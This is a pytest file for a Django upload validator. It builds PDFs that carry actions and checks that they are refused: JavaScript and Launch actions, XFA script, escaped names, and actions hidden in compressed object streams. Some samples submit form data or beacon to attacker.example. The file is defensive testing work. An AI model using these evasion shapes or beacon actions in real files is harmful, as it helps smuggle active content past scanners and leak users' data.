"""PDFs that carry actions are refused wherever the action sits (issue 16, finding 2):
on link and widget annotations, form fields, in an XFA form, behind #xx-escaped names or
packed in a compressed object stream. PDFs are built here, with pypdf or by hand."""

from __future__ import annotations

import io
import zlib

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    StreamObject,
    TextStringObject,
)

from core import uploads


def check(content: bytes) -> str:
    """ "accepted", or the message the upload field shows."""
    try:
        uploads.check_document(SimpleUploadedFile("licence.pdf", content))
    except ValidationError as error:
        return error.messages[0]
    return "accepted"


ACTIVE = str(uploads.MSG_ACTIVE_PDF)


def name(value: str) -> NameObject:
    return NameObject(value)


def action(kind: str, **entries) -> DictionaryObject:
    return DictionaryObject(
        {name("/S"): name(kind), **{name(f"/{k}"): TextStringObject(v) for k, v in entries.items()}}
    )


def rect() -> ArrayObject:
    return ArrayObject([FloatObject(10), FloatObject(10), FloatObject(60), FloatObject(30)])


def with_annotation(annotation: DictionaryObject, *, field: bool = False, xfa: bool = False) -> bytes:
    """A one-page PDF with ``annotation`` on its page (and in the form's fields)."""
    writer = PdfWriter()
    page = writer.add_blank_page(width=200, height=200)
    annotation.update({name("/Type"): name("/Annot"), name("/Rect"): rect()})
    reference = writer._add_object(annotation)
    page[name("/Annots")] = ArrayObject([reference])
    if field or xfa:
        form = DictionaryObject({name("/Fields"): ArrayObject([reference] if field else [])})
        if xfa:
            template = StreamObject()
            template.set_data(b"<xdp:xdp><script>app.alert(1)</script></xdp:xdp>")
            form[name("/XFA")] = ArrayObject([TextStringObject("template"), writer._add_object(template)])
        writer._root_object[name("/AcroForm")] = writer._add_object(form)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def link(act: DictionaryObject) -> bytes:
    return with_annotation(DictionaryObject({name("/Subtype"): name("/Link"), name("/A"): act}))


# By hand: escaped names and compressed object streams ----------------------------------------


def hand_built(objects: dict[int, bytes], packed: dict[int, bytes] | None = None) -> bytes:
    """A PDF 1.7 file with a cross-reference stream; ``packed`` objects go into one
    Flate-compressed object stream, where a scan of the raw bytes cannot see them."""
    packed = packed or {}
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets, where = {}, {}
    for number, body in objects.items():
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    size = max([*objects, *packed]) + 1
    if packed:
        stream_number, size = size, size + 1
        index, bodies = b"", b""
        for position, (number, body) in enumerate(packed.items()):
            index += b"%d %d " % (number, len(bodies))
            bodies += body + b"\n"
            where[number] = (stream_number, position)
        data = zlib.compress(index + bodies)
        offsets[stream_number] = len(out)
        out += b"%d 0 obj\n<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\nstream\n" % (
            stream_number,
            len(packed),
            len(index),
            len(data),
        )
        out += data + b"\nendstream\nendobj\n"
    xref_number, size = size, size + 1
    offsets[xref_number] = len(out)
    rows = b""
    for number in range(size):
        if number in offsets:
            rows += bytes([1]) + offsets[number].to_bytes(4, "big") + b"\0\0"
        elif number in where:
            rows += bytes([2]) + where[number][0].to_bytes(4, "big") + where[number][1].to_bytes(2, "big")
        else:
            rows += bytes([0]) + b"\0\0\0\0\xff\xff"
    out += b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n" % (
        xref_number,
        size,
        len(rows),
    )
    out += rows + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % offsets[xref_number]
    return bytes(out)


PAGE_WITH_LINK = {
    1: b"<< /Type /Catalog /Pages 2 0 R >>",
    2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Annots [4 0 R] >>",
    4: b"<< /Type /Annot /Subtype /Link /Rect [10 10 60 30] /A 5 0 R >>",
}


# The shapes that got through ----------------------------------------------------------------


SHAPES = {
    "javascript-on-a-link": lambda: link(action("/JavaScript", JS="app.alert(1)")),
    "launch-on-a-widget": lambda: with_annotation(
        DictionaryObject(
            {
                name("/Subtype"): name("/Widget"),
                name("/FT"): name("/Btn"),
                name("/T"): TextStringObject("go"),
                name("/A"): action("/Launch", F="calc.exe"),
            }
        ),
        field=True,
    ),
    "javascript-on-a-field-keystroke": lambda: with_annotation(
        DictionaryObject(
            {
                name("/Subtype"): name("/Widget"),
                name("/FT"): name("/Tx"),
                name("/T"): TextStringObject("name"),
                name("/AA"): DictionaryObject({name("/K"): action("/JavaScript", JS="app.alert(1)")}),
            }
        ),
        field=True,
    ),
    "acroform-xfa": lambda: with_annotation(
        DictionaryObject({name("/Subtype"): name("/Widget"), name("/FT"): name("/Tx")}), xfa=True
    ),
    "escaped-names": lambda: hand_built({**PAGE_WITH_LINK, 5: b"<< /S /#4A#61vaScript /#4A#53 (app.alert(1)) >>"}),
    "javascript-in-an-object-stream": lambda: hand_built(
        PAGE_WITH_LINK, packed={5: b"<< /S /JavaScript /JS (app.alert(1)) >>"}
    ),
    "escaped-launch-in-an-object-stream": lambda: hand_built(
        PAGE_WITH_LINK, packed={5: b"<< /S /L#61unch /F (calc.exe) >>"}
    ),
    "submit-form": lambda: link(action("/SubmitForm", F="https://attacker.example/collect")),
    "import-data": lambda: link(action("/ImportData", F="data.fdf")),
    "rich-media": lambda: with_annotation(
        DictionaryObject({name("/Subtype"): name("/RichMedia"), name("/RichMediaContent"): DictionaryObject()})
    ),
    "go-to-embedded": lambda: link(action("/GoToE")),
    "go-to-remote": lambda: link(action("/GoToR", F="other.pdf")),
    "open-action-uri": lambda: hand_built(
        {
            **PAGE_WITH_LINK,
            1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /URI /URI (https://attacker.example/seen) >> >>",
            4: b"<< /Type /Annot /Subtype /Text /Rect [10 10 60 30] >>",
        }
    ),
}


@pytest.mark.parametrize("shape", SHAPES)
def test_a_pdf_with_an_action_anywhere_is_refused(shape):
    assert check(SHAPES[shape]()) == ACTIVE


def test_the_object_stream_sample_hides_from_a_scan_of_the_raw_bytes():
    """The shape the old raw byte scan missed: the action's names are compressed."""
    data = SHAPES["javascript-in-an-object-stream"]()
    assert b"JavaScript" not in data
    assert b"/JS" not in data


def test_a_plain_pdf_with_a_web_link_is_accepted():
    assert check(link(action("/URI", URI="https://www.example.org/licence-board"))) == "accepted"


def test_a_pdf_that_opens_at_a_page_is_accepted():
    catalog = b"<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>"
    content = hand_built({**PAGE_WITH_LINK, 1: catalog, 4: b"<< /Type /Annot /Subtype /Text /Rect [0 0 9 9] >>"})
    assert check(content) == "accepted"


def test_a_pdf_whose_objects_point_at_each_other_is_walked_once():
    content = hand_built(
        {**PAGE_WITH_LINK, 4: b"<< /Type /Annot /Subtype /Text /Rect [0 0 9 9] /Next 6 0 R >>", 6: b"<< /Next 4 0 R >>"}
    )
    assert check(content) == "accepted"


def test_a_pdf_nested_deeper_than_the_walk_follows_is_refused_with_a_message():
    nested = b"[" * 200 + b"1" + b"]" * 200
    content = hand_built({**PAGE_WITH_LINK, 4: b"<< /Type /Annot /Subtype /Text /Rect [0 0 9 9] /X %s >>" % nested})
    assert check(content) == str(uploads.MSG_PDF_FAILED)


def test_a_pdf_with_more_objects_than_the_walk_follows_is_refused_with_a_message():
    from core import pdf_actions

    assert pdf_actions.MAX_OBJECTS == 20_000
    many = {number: b"<< /N %d >>" % number for number in range(6, 20_010)}
    assert check(hand_built({**PAGE_WITH_LINK, 4: b"<< /Subtype /Text /Rect [0 0 9 9] >>", **many})) == str(
        uploads.MSG_PDF_FAILED
    )


def test_typical_pdfs_pass_the_walk_directly():
    """The walk itself (as the child runs it) on the plain and the hidden samples."""
    from core.pdf_actions import has_actions

    assert has_actions(SHAPES["javascript-in-an-object-stream"]()) is True
    assert has_actions(link(action("/URI", URI="https://www.example.org/"))) is False


@pytest.mark.django_db
def test_a_licence_pdf_is_shown_to_administrators_in_a_sandbox(client_for, trainee, administrator):
    """The inline frame that shows a licence PDF gets a sandboxed document that may load
    and run nothing (Chromium's PDF viewer still draws it: see the licence journey)."""
    from django.core.files.base import ContentFile
    from django.urls import reverse

    from accounts.tests.factories import LicenceFactory, pdf_bytes

    licence = LicenceFactory(holder=trainee)
    licence.document.save("scan.pdf", ContentFile(pdf_bytes()), save=False)
    licence.document_content_type = "application/pdf"
    licence.save()
    response = client_for(administrator).get(reverse("accounts:licence_document", args=[licence.pk]))
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    directives = dict(
        (part.strip().split(" ", 1) + [""])[:2] for part in response["Content-Security-Policy"].split(";")
    )
    assert "sandbox" in directives
    assert directives["sandbox"] == ""  # no allow-scripts, allow-forms, allow-popups, ...
    assert directives["default-src"] == "'none'"
    assert "script-src" not in directives  # default-src 'none' covers scripts
